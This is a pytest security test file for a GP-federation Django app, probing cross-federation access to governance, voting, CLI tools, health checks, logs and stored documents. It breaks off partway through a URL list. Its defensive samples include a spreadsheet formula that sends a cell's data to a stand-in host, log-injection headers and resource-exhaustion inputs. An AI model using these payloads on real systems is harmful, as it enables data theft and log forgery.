"""Issues 17-19's new surfaces attacked as another federation and as an outsider: governance
(the register, articles, shares, resolutions and votes, the company secretary, the tally
command), the economics modeller's command, the health checks and the logs, documents in
storage, and backups. The ``world`` (tests/world.py) is ELR (A) with a person for each role and
"Other GP Federation" (B), whose administrator is the attacker; B has asked to hold ELR's
C82001 too, which the practice may agree to. A test that passes proves a defence; an
``xfail(strict=True)`` marks a hole."""

import hashlib
import io
import json
import logging
import logging.config
import os
import tarfile
import time
import tracemalloc
from datetime import date, timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth.tokens import default_token_generator
from django.core.files.storage import default_storage
from django.utils import timezone
from django.utils.encoding import force_bytes
from django.utils.http import urlsafe_base64_encode

from accounts.services import invitation_create, role_grant
from audit.models import AuditEvent
from comms import events, library
from comms import services as comms
from comms.models import Bulletin, Event, Resource
from finance import services as finance
from governance import selectors as gov_selectors
from governance import services as gov
from governance.errors import GovernanceError
from governance.models import Articles, Member, Resolution, Vote
from gpfed import backup as backups
from gpfed.cli import main
from registry.models import Federation, FederationMembership, Practice
from registry.services import membership_consent_decide
from tests.conftest import sign_in_verified
from tests.factories import UserFactory
from tests.world import FED, OTHER

pytestmark = pytest.mark.django_db

NHS_NUMBER = "9434765919"  # a valid check digit: what the upload policy must refuse


def elr():
    return Federation.objects.get(slug=FED)


def other():
    return Federation.objects.get(slug=OTHER)


def c82001():
    return Practice.objects.get(code="C82001")


def other_practice():
    return FederationMembership.objects.get(federation__slug=OTHER).practice


def as_user(client, user):
    return sign_in_verified(client, user)


def governance_state(federation):
    """Everything of a federation's governance an attack could change."""
    return {
        "articles": list(Articles.objects.filter(federation=federation).values()),
        "members": list(Member.objects.filter(federation=federation).order_by("pk").values()),
        "resolutions": list(
            Resolution.objects.filter(federation=federation).order_by("pk").values()
        ),
        "votes": list(Vote.objects.filter(resolution__federation=federation).values()),
        "audit": AuditEvent.objects.filter(
            federation=federation, action__startswith="governance."
        ).count(),
    }


def elr_governance(world):
    """ELR's register names C82001's practice manager as its voter, and a written resolution
    is open today."""
    manager = world["users"]["practice_manager"]
    coo = world["users"]["federation_admin"]
    gov.member_set(federation=elr(), practice=c82001(), nominated_voter=manager, shares=1, by=coo)
    resolution = gov.resolution_circulate(
        federation=elr(),
        title="Adopt the new articles",
        text="That the articles be adopted.",
        kind="special",
        mode="written",
        circulated_on=timezone.localdate(),
        by=coo,
    )
    return resolution


def share_c82001_with_other(world):
    """The practice agrees to B's request: B holds C82001 too, and B's administrator makes one
    of B's people its practice manager within B and B's nominated voter for it."""
    membership_consent_decide(consent=world["consent"], accept=True, by=None)
    assert FederationMembership.objects.filter(federation=other(), practice=c82001()).exists()
    b_voter = UserFactory(email="voter@other.example", full_name="Bea Voter")
    role_grant(
        user=b_voter,
        role="practice_manager",
        organisation=c82001(),
        federation=other(),
        by=world["users"]["other_admin"],
    )
    gov.member_set(
        federation=other(),
        practice=c82001(),
        nominated_voter=b_voter,
        shares=1,
        by=world["users"]["other_admin"],
    )
    return b_voter


def b_secretary():
    secretary = UserFactory(email="secretary@other.example")
    role_grant(user=secretary, role="company_secretary", organisation=other(), by=None)
    return secretary


# --- governance: B's people reach nothing of A's ---------------------------------------------


def elr_urls(resolution):
    return [
        f"/governance/{FED}/",
        f"/governance/{FED}/articles/",
        f"/governance/{FED}/members/",
        f"/governance/{FED}/members.csv",
        f"/governance/{FED}/members/C82001/",
        f"/governance/{FED}/members/c82001/",
        f"/governance/{FED}/shares/",
        f"/governance/{FED}/shares/apply/",
        f"/governance/{FED}/resolutions/new/",
        f"/governance/resolutions/{resolution.pk}/",
        f"/governance/resolutions/{resolution.pk}/vote/",
        f"/governance/resolutions/{resolution.pk}/paper/",
    ]


@pytest.mark.parametrize(
    "who", ["other_admin", "other_secretary", "other_pcn_cd", "network_admin", "no_role"]
)
def test_b_people_and_outsiders_get_404_on_every_governance_address_of_a(demo, world, client, who):
    resolution = elr_governance(world)
    user = b_secretary() if who == "other_secretary" else world["users"][who]
    # B's own governance first: its articles, register and a resolution of its own.
    gov.articles_set(
        federation=other(),
        voting_rule="practice",
        share_rule="one_per_practice",
        quorum_members=1,
        notice_days=14,
        written_lapse_days=28,
        by=world["users"]["other_admin"],
    )
    mine = gov.resolution_circulate(
        federation=other(),
        title="Ours",
        text="That we meet.",
        kind="ordinary",
        mode="written",
        circulated_on=timezone.localdate(),
        by=world["users"]["other_admin"],
    )
    fingerprint = gov_selectors.share_allocation(elr()).fingerprint
    before = governance_state(elr())
    as_user(client, user)
    if who in ("other_admin", "other_secretary"):  # the attacker's own pages answer
        assert client.get(f"/governance/resolutions/{mine.pk}/").status_code == 200
    forged = {
        "voting_rule": "shares",
        "share_rule": "per_thousand",
        "quorum_members": "1",
        "notice_days": "14",
        "written_lapse_days": "365",
        "nominated_voter": str(user.pk),
        "liability": "shares",
        "shares": "999",
        "fingerprint": fingerprint,
        "title": "Wind up",
        "text": "That the company be wound up.",
        "kind": "special",
        "mode": "written",
        "circulated_on": timezone.localdate().isoformat(),
        "practice": str(c82001().pk),
        "choice": "against",
        "cast_on": timezone.localdate().isoformat(),
        "confirm": "yes",
        "federation": FED,
        "resolution": str(resolution.pk),
    }
    for url in elr_urls(resolution):
        assert client.get(url).status_code == 404, url
        assert client.post(url, forged).status_code == 404, url
    assert client.get("/governance/").status_code in (302, 404)
    assert governance_state(elr()) == before
    assert not AuditEvent.objects.filter(action="governance.register.export").exists()


def test_a_b_voter_of_a_practice_both_hold_cannot_vote_on_as_resolution(demo, world, client):
    """C82001 agrees to B holding it too; B names its own voter for it. She votes on B's
    resolution (she may), then reaches for A's resolution on which C82001 is eligible."""
    resolution = elr_governance(world)
    b_voter = share_c82001_with_other(world)
    theirs = gov.resolution_circulate(
        federation=other(),
        title="B's question",
        text="That B does it.",
        kind="ordinary",
        mode="written",
        circulated_on=timezone.localdate(),
        by=world["users"]["other_admin"],
    )
    assert theirs.eligible_members.filter(practice=c82001()).exists()
    as_user(client, b_voter)
    # Her own federation's vote works, through the page's two steps.
    choice = {"practice": str(c82001().pk), "choice": "for"}
    assert client.post(f"/governance/resolutions/{theirs.pk}/vote/", choice).status_code == 200
    done = client.post(f"/governance/resolutions/{theirs.pk}/vote/", {**choice, "confirm": "yes"})
    assert done.status_code == 302
    assert Vote.objects.filter(resolution=theirs, practice=c82001()).count() == 1
    # A's resolution, by every door.
    for url in (
        f"/governance/resolutions/{resolution.pk}/",
        f"/governance/resolutions/{resolution.pk}/vote/",
        f"/governance/resolutions/{resolution.pk}/paper/",
    ):
        assert client.get(url).status_code == 404
        assert client.post(url, {**choice, "confirm": "yes"}).status_code == 404
    with pytest.raises(GovernanceError) as refused:
        gov.vote_cast(resolution=resolution, practice=c82001(), choice="against", by=b_voter)
    assert refused.value.field == "practice"
    assert not Vote.objects.filter(resolution=resolution).exists()
    assert gov_selectors.nominated_practices(b_voter, elr()) == []


def test_a_nominated_voter_is_never_a_person_of_another_federation(demo, world, client):
    b_voter = share_c82001_with_other(world)
    manager = world["users"]["practice_manager"]
    # A's administrator cannot name B's voter (or B's administrator) as C82001's voter in A.
    as_user(client, world["users"]["federation_admin"])
    for outsider in (b_voter, world["users"]["other_admin"]):
        response = client.post(
            f"/governance/{FED}/members/C82001/",
            {"nominated_voter": str(outsider.pk), "liability": "shares", "shares": "1"},
        )
        assert response.status_code in (200, 400)  # the form again, with its error
        assert "Select a valid choice" in response.content.decode()
        with pytest.raises(GovernanceError) as refused:
            gov.member_set(
                federation=elr(),
                practice=c82001(),
                nominated_voter=outsider,
                by=world["users"]["federation_admin"],
            )
        assert refused.value.field == "nominated_voter"
    assert not Member.objects.filter(federation=elr()).exists()
    # B's administrator cannot name A's practice manager as C82001's voter in B.
    client.logout()
    as_user(client, world["users"]["other_admin"])
    response = client.post(
        f"/governance/{OTHER}/members/C82001/",
        {"nominated_voter": str(manager.pk), "liability": "shares", "shares": "1"},
    )
    assert "Select a valid choice" in response.content.decode()
    assert Member.objects.get(federation=other(), practice=c82001()).nominated_voter == b_voter
    # Nor for a practice B does not hold at all.
    assert client.get(f"/governance/{OTHER}/members/C82002/").status_code == 404


@pytest.mark.parametrize(
    "who", ["practice_staff", "board_member", "finance_lead", "pcn_cd", "communications_lead"]
)
def test_as_own_people_who_are_not_the_voter_cannot_vote_or_record_a_paper_vote(
    demo, world, client, who
):
    resolution = elr_governance(world)
    as_user(client, world["users"][who])
    assert client.get(f"/governance/resolutions/{resolution.pk}/").status_code == 200
    step = {
        "practice": str(c82001().pk),
        "choice": "against",
        "confirm": "yes",
        "cast_on": timezone.localdate().isoformat(),
    }
    for door in ("vote", "paper"):
        response = client.post(f"/governance/resolutions/{resolution.pk}/{door}/", step)
        assert response.status_code == 404
    with pytest.raises(GovernanceError):
        gov.vote_cast(
            resolution=resolution, practice=c82001(), choice="against", by=world["users"][who]
        )
    assert not Vote.objects.exists()


def test_bs_paper_vote_names_only_its_own_resolutions_eligible_members(demo, world, client):
    admin = world["users"]["other_admin"]
    theirs = gov.resolution_circulate(
        federation=other(),
        title="B's question",
        text="That B does it.",
        kind="ordinary",
        mode="written",
        circulated_on=timezone.localdate(),
        by=admin,
    )
    as_user(client, admin)
    for practice in (c82001(), Practice.objects.get(code="C82002")):
        response = client.post(
            f"/governance/resolutions/{theirs.pk}/paper/",
            {
                "practice": str(practice.pk),
                "choice": "for",
                "cast_on": timezone.localdate().isoformat(),
            },
        )
        assert response.status_code in (200, 400)  # the form again
        with pytest.raises(GovernanceError):
            gov.vote_cast(
                resolution=theirs, practice=practice, choice="for", on_paper=True, by=admin
            )
    assert not Vote.objects.exists()


def test_bs_shares_fingerprint_or_as_cannot_apply_elsewhere(demo, world, client):
    """B's administrator copies A's preview fingerprint into B's apply form, and B's into A's."""
    elr_fingerprint = gov_selectors.share_allocation(elr()).fingerprint
    before = governance_state(elr())
    as_user(client, world["users"]["other_admin"])
    response = client.post(f"/governance/{OTHER}/shares/apply/", {"fingerprint": elr_fingerprint})
    assert response.status_code == 302
    assert not Member.objects.filter(federation=other()).exists()
    mine = gov_selectors.share_allocation(other()).fingerprint
    assert client.post(f"/governance/{FED}/shares/apply/", {"fingerprint": mine}).status_code == 404
    assert governance_state(elr()) == before


# --- votes: once, on time, by the voter still in post ----------------------------------------


def test_a_cast_vote_is_never_changed_by_any_door(demo, world, client):
    resolution = elr_governance(world)
    manager = world["users"]["practice_manager"]
    as_user(client, manager)
    url = f"/governance/resolutions/{resolution.pk}/vote/"
    step = {"practice": str(c82001().pk), "choice": "for"}
    assert client.post(url, step).status_code == 200
    assert client.post(url, {**step, "confirm": "yes"}).status_code == 302
    [vote] = Vote.objects.filter(resolution=resolution)
    snapshot_before = Vote.objects.filter(pk=vote.pk).values().get()
    # The page again, straight to the confirm step, with another choice.
    again = client.post(url, {**step, "choice": "against", "confirm": "yes"})
    assert again.status_code == 400
    assert "already voted" in again.content.decode()
    # The service.
    with pytest.raises(GovernanceError):
        gov.vote_cast(resolution=resolution, practice=c82001(), choice="against", by=manager)
    # The company secretary or administrator "recording a paper vote" for the same practice.
    client.logout()
    as_user(client, world["users"]["federation_admin"])
    paper = client.post(
        f"/governance/resolutions/{resolution.pk}/paper/",
        {"practice": str(c82001().pk), "choice": "against", "cast_on": vote.cast_on.isoformat()},
    )
    assert paper.status_code in (200, 302, 400)  # C82001 is not offered; the form again
    with pytest.raises(GovernanceError):
        gov.vote_cast(
            resolution=resolution,
            practice=c82001(),
            choice="against",
            on_paper=True,
            by=world["users"]["federation_admin"],
        )
    # The model and the admin site.
    vote.choice = "against"
    with pytest.raises(ValueError):
        vote.save()
    with pytest.raises(ValueError):
        vote.delete()
    client.logout()
    client.force_login(world["users"]["superuser"])
    for admin_url in ("/admin/governance/vote/", f"/admin/governance/vote/{vote.pk}/change/"):
        assert client.get(admin_url).status_code == 404
    assert Vote.objects.filter(pk=vote.pk).values().get() == snapshot_before
    assert Vote.objects.filter(resolution=resolution).count() == 1


def test_two_votes_at_once_record_one(demo, world, monkeypatch):
    """The race: the second vote's check that none was cast runs before the first is written
    (as two requests at once would); the database's constraint refuses it."""
    resolution = elr_governance(world)
    manager = world["users"]["practice_manager"]
    gov.vote_cast(resolution=resolution, practice=c82001(), choice="for", by=manager)
    monkeypatch.setattr(Vote.objects, "filter", lambda *a, **k: Vote.objects.none())
    with pytest.raises(GovernanceError) as refused:
        gov.vote_cast(resolution=resolution, practice=c82001(), choice="against", by=manager)
    monkeypatch.undo()
    assert "already voted" in refused.value.message
    assert list(Vote.objects.filter(resolution=resolution).values_list("choice", flat=True)) == [
        "for"
    ]


def test_no_vote_after_the_resolution_lapsed_or_the_meeting_was_held(demo, world, client):
    coo = world["users"]["federation_admin"]
    manager = world["users"]["practice_manager"]
    gov.member_set(federation=elr(), practice=c82001(), nominated_voter=manager, by=coo)
    today = timezone.localdate()
    lapsed = gov.resolution_circulate(
        federation=elr(),
        title="Old",
        text="Too late.",
        kind="ordinary",
        mode="written",
        circulated_on=today - timedelta(days=40),
        by=coo,
    )
    held = gov.resolution_circulate(
        federation=elr(),
        title="Met",
        text="Decided.",
        kind="ordinary",
        mode="meeting",
        circulated_on=today - timedelta(days=40),
        meeting_on=today - timedelta(days=20),
        by=coo,
    )
    as_user(client, manager)
    for resolution in (lapsed, held):
        page = client.get(f"/governance/resolutions/{resolution.pk}/").content.decode()
        assert f"/governance/resolutions/{resolution.pk}/vote/" not in page
        response = client.post(
            f"/governance/resolutions/{resolution.pk}/vote/",
            {"practice": str(c82001().pk), "choice": "for", "confirm": "yes"},
        )
        assert response.status_code == 400
        assert "Voting closed" in response.content.decode()
        with pytest.raises(GovernanceError):
            gov.vote_cast(
                resolution=resolution, practice=c82001(), choice="for", on_paper=True, by=coo
            )
    assert not Vote.objects.exists()


def test_a_voter_whose_role_ended_or_who_was_switched_to_b_cannot_vote(demo, world, client):
    """A's voter's role ends; she is given a role in B instead. The register still names her."""
    resolution = elr_governance(world)
    manager = world["users"]["practice_manager"]
    grant = world["manager_grant"]
    grant.end_date = timezone.localdate() - timedelta(days=1)
    grant.save(update_fields=["end_date"])
    role_grant(user=manager, role="practice_staff", organisation=other_practice(), by=None)
    as_user(client, manager)
    response = client.post(
        f"/governance/resolutions/{resolution.pk}/vote/",
        {"practice": str(c82001().pk), "choice": "for", "confirm": "yes"},
    )
    assert response.status_code == 404
    with pytest.raises(GovernanceError):
        gov.vote_cast(resolution=resolution, practice=c82001(), choice="for", by=manager)
    assert not Vote.objects.exists()


def test_the_register_csv_neutralises_a_formula_in_a_voters_own_name(demo, world, client):
    """A's practice manager (the nominated voter) sets her own name to a formula; the
    administrator's export of the register must not carry it live."""
    elr_governance(world)
    manager = world["users"]["practice_manager"]
    manager.full_name = '=HYPERLINK("http://evil.example/?x="&A1,"Pat")'
    manager.save(update_fields=["full_name"])
    as_user(client, world["users"]["federation_admin"])
    response = client.get(f"/governance/{FED}/members.csv")
    assert response.status_code == 200
    text = response.content.decode()
    assert "HYPERLINK" in text
    for cell in text.replace('"', "").replace("\r\n", ",").split(","):
        assert not cell.startswith(("=", "+", "-", "@")), cell


# --- the command line: tally and economics ---------------------------------------------------


def votes_file(tmp_path, data, name="votes.csv"):
    path = tmp_path / name
    path.write_bytes(data)
    return str(path)


def tally(by, slug, votes, *more):
    args = ["--by", by.email] if by else []
    return main(
        [
            *args,
            "resolution",
            "tally",
            slug,
            "--kind",
            "ordinary",
            "--mode",
            "written",
            "--weighting",
            "practice",
            "--votes",
            votes,
            *more,
        ]
    )


@pytest.mark.parametrize("who", ["other_admin", "other_secretary", "other_pcn_cd", "no_role"])
def test_tally_of_as_slug_by_b_answers_as_if_a_did_not_exist(demo, world, tmp_path, capsys, who):
    user = b_secretary() if who == "other_secretary" else world["users"][who]
    votes = votes_file(tmp_path, b"ODS code,Vote\nC82001,for\n")
    assert tally(world["users"]["federation_admin"], FED, votes) == 0  # A's own: it works
    capsys.readouterr()
    assert tally(user, FED, votes) == 2
    theirs = capsys.readouterr()
    assert tally(user, "no-such-federation", votes) == 2
    nowhere = capsys.readouterr()
    assert theirs.out == nowhere.out == ""
    assert theirs.err == nowhere.err.replace("no-such-federation", FED)
    assert elr().name not in theirs.err


def test_bs_manager_of_a_shared_practice_takes_no_register_of_as_from_the_command_line(
    demo, world, capsys
):
    """A sequence: the practice agrees to join B too, B's administrator makes one of B's people
    its manager within B; she, and B's administrator, ask for A's registers by the command
    line. They are told A does not exist, and A's audit trail records no export; B's own
    register, which now lists the practice, is theirs."""
    b_voter = share_c82001_with_other(world)
    for who in (b_voter, world["users"]["other_admin"]):
        for register in ("members", "interests", "gifts"):
            assert main(["--by", who.email, "registers", register, FED]) == 2
            err = capsys.readouterr().err
            assert err.strip() == f"gpfed: there is no federation {FED}", err
    assert not AuditEvent.objects.filter(federation=elr(), action__endswith=".export").exists()
    assert main(["--by", b_voter.email, "registers", "members", OTHER, "--format", "json"]) == 0
    assert "C82001" in [r["ODS code"] for r in json.loads(capsys.readouterr().out)]


@pytest.mark.parametrize(
    ("data", "named"),
    [
        (f"ODS code,Vote\nC82001,for {NHS_NUMBER}\n".encode(), "row 2"),
        (f"ODS code,Vote,Note\nC82001,for,{NHS_NUMBER}\n".encode(), "row 2"),
        (b'ODS code,Vote\n=HYPERLINK("http://evil"),for\n', "row 2"),
        (b"ODS code,Vote\n@SUM(1+1),for\n", "row 2"),
        (b"ODS code,Vote,Name\nC82001,for,Pat Manager\n", "Name"),
        (b"ODS code,Vote\nC82001,for\nC82001,against\n", "row 3"),
        (b"ODS code,Vote\nC82001,yes\n", "row 2"),
        (b"\x00\x01\x02\xff\xfe garbage", ""),
        (b"", ""),
    ],
)
def test_a_bad_votes_file_is_refused_naming_the_row_and_never_echoing_an_nhs_number(
    demo, world, tmp_path, capsys, data, named
):
    votes = votes_file(tmp_path, data)
    assert tally(world["users"]["federation_admin"], FED, votes) == 2
    out = capsys.readouterr()
    assert out.out == ""
    assert "nothing was tallied" in out.err or "empty" in out.err or "not" in out.err
    assert named in out.err
    assert NHS_NUMBER not in out.err
    assert "Pat Manager" not in out.err


@pytest.mark.parametrize(
    "encoded",
    [
        "\ufeffODS code,Vote\r\nC82001,for\r\n".encode(),
        "ODS code,Vote\nC82001,for\n".encode("utf-16"),
        "ODS code;Vote\nC82001;for\n".encode("cp1252"),
    ],
)
def test_a_votes_file_with_a_bom_or_another_encoding_is_read_or_refused_cleanly(
    demo, world, tmp_path, capsys, encoded
):
    votes = votes_file(tmp_path, encoded)
    code = tally(world["users"]["federation_admin"], FED, votes, "--format", "json")
    out = capsys.readouterr()
    assert code in (0, 2)
    assert "Traceback" not in out.err
    if code == 0:
        assert json.loads(out.out)["for"]["count"] == 1
    else:
        assert out.err.startswith("gpfed: ")


def test_a_huge_votes_file_is_refused_before_it_is_read(demo, world, tmp_path, capsys):
    path = tmp_path / "huge.csv"
    with open(path, "wb") as f:
        f.write(b"ODS code,Vote\n")
        f.truncate(200 * 1024 * 1024)  # a sparse 200 MB file
    tracemalloc.start()
    started = time.perf_counter()
    try:
        assert tally(world["users"]["federation_admin"], FED, str(path)) == 2
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert time.perf_counter() - started < 5
    assert peak < 20 * 1024 * 1024
    out = capsys.readouterr()
    assert out.out == "" and "larger than" in out.err


def scenario_for(federation_slug):
    text = (Path(settings.BASE_DIR) / "docs" / "economics.md").read_text()
    example = json.loads(text.split("```json\n", 1)[1].split("```", 1)[0])
    example["federation"] = federation_slug
    return example


def economics(by, path, *more):
    args = ["--by", by.email] if by else []
    return main([*args, "economics", "run", path, *more])


@pytest.mark.parametrize("who", ["other_admin", "other_pcn_cd", "no_role"])
def test_economics_of_as_slug_by_b_answers_as_if_a_did_not_exist(
    demo, world, tmp_path, capsys, who
):
    user = world["users"][who]
    mine = tmp_path / "a.json"
    mine.write_text(json.dumps(scenario_for(FED)))
    nowhere = tmp_path / "n.json"
    nowhere.write_text(json.dumps(scenario_for("no-such-federation")))
    assert economics(world["users"]["finance_lead"], str(mine), "--format", "json") == 0
    capsys.readouterr()
    assert economics(user, str(mine)) == 2
    theirs = capsys.readouterr()
    assert economics(user, str(nowhere)) == 2
    absent = capsys.readouterr()
    assert theirs.out == absent.out == ""
    assert theirs.err.replace("a.json", "n.json") == absent.err.replace("no-such-federation", FED)
    assert elr().name not in theirs.err


def scenario_with(**changes):
    scenario = scenario_for(FED)
    text = json.dumps(scenario)
    for key, raw in changes.items():
        if key == "draws":
            text = text[:-1] + f', "draws": {raw}' + "}"
        else:
            text = text.replace(f'"{key}": {json.dumps(scenario[key])}', f'"{key}": {raw}', 1)
    return text


@pytest.mark.parametrize(
    ("text", "field"),
    [
        (scenario_with(income_per_unit="1e308"), "income_per_unit"),
        (scenario_with(income_per_unit="1e999999999"), "income_per_unit"),
        (scenario_with(income_per_unit="1e-999999999"), "income_per_unit"),
        (scenario_with(income_per_unit="-1"), "income_per_unit"),
        (scenario_with(income_per_unit="NaN"), "NaN"),
        (scenario_with(income_per_unit="Infinity"), "Infinity"),
        (scenario_with(income_per_unit="-Infinity"), "Infinity"),
        (scenario_with(income_per_unit="9" * 5000), "not JSON"),
        (scenario_with(income_per_unit='{"low": 1, "mode": 0, "high": 2}'), "income_per_unit"),
        (scenario_with(draws=10**9), "draws"),
        (scenario_with(draws="1e9"), "draws"),
        (scenario_with(draws="1e308"), "draws"),
        (scenario_with(draws="0.5"), "draws"),
        (scenario_with(draws="true"), "draws"),
        (scenario_with(draws=1_000_000), "draws"),  # 1,000,000 draws for every ELR practice
        ("[" * 200_000, "nest"),
        ('{"federation": ' * 50_000, "nest"),
        ('{"a": 1, "a": 2}', "twice"),
        ("\ufeff" + scenario_with(draws="-1"), "draws"),
    ],
)
def test_an_extreme_scenario_is_refused_naming_the_field_quickly_and_in_little_memory(
    demo, world, tmp_path, capsys, text, field
):
    path = tmp_path / "scenario.json"
    path.write_text(text, encoding="utf-8")
    tracemalloc.start()
    started = time.perf_counter()
    try:
        code = economics(world["users"]["finance_lead"], str(path))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    out = capsys.readouterr()
    assert code == 2, out.out[:300]
    assert time.perf_counter() - started < 10
    assert peak < 200 * 1024 * 1024
    assert out.out == ""
    assert out.err.startswith("gpfed: scenario.json: ")
    assert field in out.err
    assert "nothing was worked out" in out.err


# --- health and logs -------------------------------------------------------------------------


@pytest.fixture
def json_log():
    """Every line logged while the test runs, as GPFED_LOG_FORMAT=json writes them."""
    configurator = logging.config.DictConfigurator({})
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(
        configurator.configure_formatter(dict(settings.LOGGING["formatters"]["json"]))
    )
    handler.addFilter(configurator.configure_filter(dict(settings.LOGGING["filters"]["context"])))
    root = logging.getLogger()
    root.addHandler(handler)
    level = root.level
    root.setLevel(logging.INFO)

    def lines():
        return [json.loads(line) for line in stream.getvalue().splitlines() if line.strip()]

    lines.text = stream.getvalue  # type: ignore[attr-defined]
    yield lines
    root.removeHandler(handler)
    root.setLevel(level)


SECRET_DETAIL = "db-prod-7.internal.example (10.0.0.5) PostgreSQL 16.2 /srv/gpfed/var"


class BrokenConnection:
    vendor = "postgresql"

    def cursor(self):
        raise RuntimeError(f"could not connect to {SECRET_DETAIL}")

    def __getattr__(self, name):
        raise RuntimeError(f"broken: {SECRET_DETAIL}")


def test_health_ready_says_nothing_but_which_check_failed(db, client, monkeypatch, settings):
    from gpfed.health import selectors as health

    def broken(*args, **kwargs):
        raise OSError(f"S3 bucket gpfed-docs at {SECRET_DETAIL}: AccessDenied")

    monkeypatch.setattr(health, "connection", BrokenConnection())
    monkeypatch.setattr(health.default_storage, "save", broken)
    settings.DEBUG = True  # even a debug installation's answer holds nothing more
    response = client.get("/health/ready", headers={"X-Request-ID": "probe-1"})
    assert response.status_code == 503
    body = response.json()
    assert body == {
        "status": "unavailable",
        "checks": {
            "database": "failed",
            "migrations": "not checked",
            "storage": "failed",
            "worker": "not checked",
        },
    }
    raw = response.content.decode() + "".join(f"{k}: {v}" for k, v in response.items())
    for leak in ("db-prod", "10.0.0.5", "16.2", "/srv", "S3", "Traceback", "Django", "Python"):
        assert leak not in raw
    assert client.get("/health/live").json() == {"status": "ok"}


def test_health_answers_no_method_but_get_and_head(db, client):
    for url in ("/health/live", "/health/ready"):
        assert client.post(url).status_code == 405
        assert client.put(url).status_code == 405


@pytest.mark.parametrize(
    "header",
    [
        "ok\nERROR admin@elr.example signed in",
        "ok\r\nX-Injected: 1",
        "x" * 10_240,
        'a","level":"CRITICAL","user_id":1,"x":"',
        "\x1b[31mred\x1b[0m",
        "abc\x00def",
        "ok\u2028next",
        "a" * 64 + "b",
    ],
)
def test_a_crafted_request_id_never_reaches_the_logs_or_the_answer_raw(
    db, client, json_log, header
):
    response = client.get("/health/live", headers={"X-Request-ID": header})
    rid = response["X-Request-ID"]
    assert rid != header and len(rid) == 32 and rid.isalnum()
    text = json_log.text()
    assert header not in text
    assert "\x1b" not in text and "CRITICAL" not in text and "X-Injected" not in text
    for line in json_log():
        assert line.get("request_id") in (None, rid)
        assert line.get("level") != "CRITICAL"


def test_a_path_cannot_forge_a_json_log_line(db, client, json_log):
    client.get('/nowhere%0A{"level":"CRITICAL","logger":"gpfed.access"}/%1b[31m')
    lines = json_log()
    assert lines, "a 404 is logged"
    assert all(line["level"] != "CRITICAL" for line in lines)
    assert "\x1b" not in json_log.text()


def genuine_secret_links(world):
    """An invitation link, a password reset link and an unsubscribe link, each genuine."""
    _invitation, link = invitation_create(
        email="newcomer@elr.example.org",
        role="communications_lead",
        organisation=elr(),
        invited_to=elr(),
        by=world["users"]["federation_admin"],
        base_url="http://testserver/",
    )
    invitation = link.removeprefix("http://testserver")
    user = world["users"]["board_member"]
    uid = urlsafe_base64_encode(force_bytes(user.pk))
    reset = f"/accounts/password-reset/{uid}/{default_token_generator.make_token(user)}/"
    contact = world["contact"]
    unsubscribe = f"/comms/unsubscribe/{comms.unsubscribe_token(contact.pk, elr().pk)}"
    return {"invitation": invitation, "reset": reset, "unsubscribe": unsubscribe}


def secrets_of(path):
    """The secret parts of a link's path (longer than any fixed word of gpfed's addresses)."""
    return [part for part in path.split("/") if len(part) >= 20]


@pytest.mark.parametrize("kind", ["invitation", "reset", "unsubscribe"])
def test_a_secret_link_as_sent_leaves_no_secret_in_the_log(demo, world, client, json_log, kind):
    path = genuine_secret_links(world)[kind]
    client.get(path + "?utm_source=email&email=pat%40example.org")
    text = json_log.text()
    assert json_log(), "the request was logged"
    for secret in secrets_of(path):
        assert secret not in text
    assert "pat@example.org" not in text and "utm_source" not in text


@pytest.mark.parametrize("kind", ["invitation", "reset", "unsubscribe"])
def test_a_mangled_secret_link_leaves_no_secret_in_the_log(demo, world, client, json_log, kind):
    path = genuine_secret_links(world)[kind]
    mangled = path.rstrip("/") if path.endswith("/") else path + "/"
    client.get(mangled)
    text = json_log.text()
    assert json_log(), "the request was logged"
    for secret in secrets_of(path):
        assert secret not in text


def test_slow_query_lines_never_hold_the_values_searched_or_signed_in_with(
    demo, world, client, json_log, settings
):
    settings.GPFED_SLOW_QUERY_MS = -1  # every query is "slow"
    manager = world["users"]["practice_manager"]
    client.post(
        "/accounts/sign-in/",
        {"username": manager.email, "password": "not-her-password-ZX81"},
    )
    as_user(client, world["users"]["federation_admin"])
    client.get("/search/", {"q": "Pat Manager pat@example.org"})
    client.get(f"/governance/{FED}/members/", {"q": "Lovelace"})
    slow = [line for line in json_log() if line["logger"] == "gpfed.slow_query"]
    assert slow, "the slow queries were logged"
    text = json_log.text()
    for value in (manager.email, "not-her-password", "Pat Manager", "pat@example.org", "Lovelace"):
        assert value not in text


# --- documents in storage --------------------------------------------------------------------


def b_documents(world):
    """B's own document of each kind, named as A's are."""
    admin = world["users"]["other_admin"]
    contract = finance.contract_save(
        federation=other(),
        by=admin,
        reference="C-1",
        title="Diagnostics",
        other_body="The ICB",
        start_date=date(2025, 4, 1),
        basis="per_unit",
    )
    document = finance.document_add(
        contract=contract, by=admin, title="Specification", file_name="spec.txt", data=b"B spec"
    )
    bulletin = comms.bulletin_save(Bulletin(federation=other(), title="B", body="Hi"), by=admin)
    bulletin_file = comms.bulletin_file_add(
        bulletin, file_name="plan.txt", data=b"B plan", by=admin
    )
    start = timezone.now() + timedelta(days=7)
    event = events.event_save(
        Event(
            federation=other(),
            title="B forum",
            starts_at=start,
            place="B hub",
            ends_at=start + timedelta(hours=1),
        ),
        by=admin,
    )
    material = events.material_add(
        event, title="Agenda", file_name="agenda.txt", data=b"B agenda", by=admin
    )
    resource = library.resource_add(
        Resource(
            federation=other(), folder=library.folder_add(other(), "Policies", by=admin), title="P"
        ),
        file_name="policy.txt",
        data=b"B policy",
        by=admin,
    )
    return {
        "contract": (contract, document),
        "bulletin": (bulletin, bulletin_file),
        "event": (event, material),
        "resource": (resource, None),
    }


def a_document_urls(world, mine):
    """A's document of each kind, by its own address and mixed with B's own ids."""
    doc = world["document"]
    draft, draft_file = world["draft"], world["draft_file"]
    sent, sent_file = world["sent"], world["sent_file"]
    event, material = world["event"], world["material"]
    resource = world["resource"]
    b_bulletin, b_file = mine["bulletin"]
    b_event, b_material = mine["event"]
    return [
        f"/finance/{FED}/documents/{doc.pk}/",
        f"/finance/{OTHER}/documents/{doc.pk}/",
        f"/comms/bulletins/{draft.pk}/files/{draft_file.pk}",
        f"/comms/bulletins/{sent.pk}/files/{sent_file.pk}",
        f"/comms/bulletins/{b_bulletin.pk}/files/{draft_file.pk}",
        f"/comms/bulletins/{draft.pk}/files/{b_file.pk}",
        f"/comms/events/{event.pk}/materials/{material.pk}",
